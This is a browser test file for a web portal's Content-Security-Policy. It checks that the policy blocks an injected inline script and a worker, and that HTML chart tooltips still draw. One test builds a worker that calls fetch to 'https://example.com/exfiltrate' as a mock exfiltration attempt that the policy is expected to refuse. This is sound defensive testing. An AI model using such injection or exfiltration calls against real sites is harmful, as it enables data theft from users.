import path from 'node:path'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { addPm10 } from '../support/fixtures.ts'
import { ARTIFACTS, browserMissing, type Portal, startPortal, takeCspViolations } from '../support/portal.ts'

/*
 * The portal's Content-Security-Policy in a real browser. Every browser test fails on a violation (support/portal.ts);
 * here, that the policy does block what it should, that the check sees it, and that ECharts' HTML tooltips (the one
 * reason for inline style attributes) draw.
 */
describe.skipIf(browserMissing)('the Content-Security-Policy', () => {
  let portal: Portal
  beforeAll(async () => { portal = await startPortal() })
  afterAll(() => portal?.close())

  it('refuses an injected inline script and a worker reaching another origin, and the browser tests see both', async () => {
    const { page } = await portal.open()
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.injected = true'
      document.body.append(script)
      // As a worker of MapLibre's would, from a blob: URL, once it is running.
      new Worker(URL.createObjectURL(new Blob(['setTimeout(() => fetch("https://example.com/exfiltrate").catch(() => {}), 500)'], { type: 'text/javascript' })))
    })
    expect(await page.evaluate(() => (window as { injected?: boolean }).injected)).toBeUndefined()
    await expect.poll(() => takeCspViolations().join('\n'), { timeout: 10_000 }).toMatch(/connect-src refused https:\/\/example.com\/exfiltrate in a worker/)
    await page.close()
    // The inline script's reports were taken with the worker's (above): nothing is left to fail this test.
  })

  it('lets the PM10 chart show its HTML tooltip', async () => {
    const { rows: [site] } = await sql<{ id: number }>`SELECT s.id FROM key_projects k JOIN sites s ON s.id = k.site_id ORDER BY k.rank LIMIT 1`.execute(portal.database.db)
    await addPm10(portal.database.db, site.id, [{ hoursAgo: 3, pm10: 64 }, { hoursAgo: 2, pm10: 80 }, { hoursAgo: 1, pm10: 70 }])
    const { page, errors } = await portal.open(`/?sel=site:${site.id}`)
    const chart = page.locator('[data-testid=pm10-chart]')
    await chart.locator('canvas').waitFor()
    await chart.scrollIntoViewIfNeeded()
    const box = (await chart.boundingBox())!
    // The axis tooltip follows the pointer across the chart; it is HTML with style attributes.
    await expect.poll(async () => {
      await page.mouse.move(box.x + box.width * (0.3 + Math.random() * 0.4), box.y + box.height / 2)
      return chart.evaluate((el) => [...el.querySelectorAll('div')].some((d) => d.textContent?.includes('µg/m³') && getComputedStyle(d).display !== 'none'))
    }, { timeout: 15_000 }).toBe(true)
    await chart.screenshot({ path: path.join(ARTIFACTS, 'csp-pm10-tooltip.png') })
    expect(errors).toEqual([])
    await page.close()
  })
})
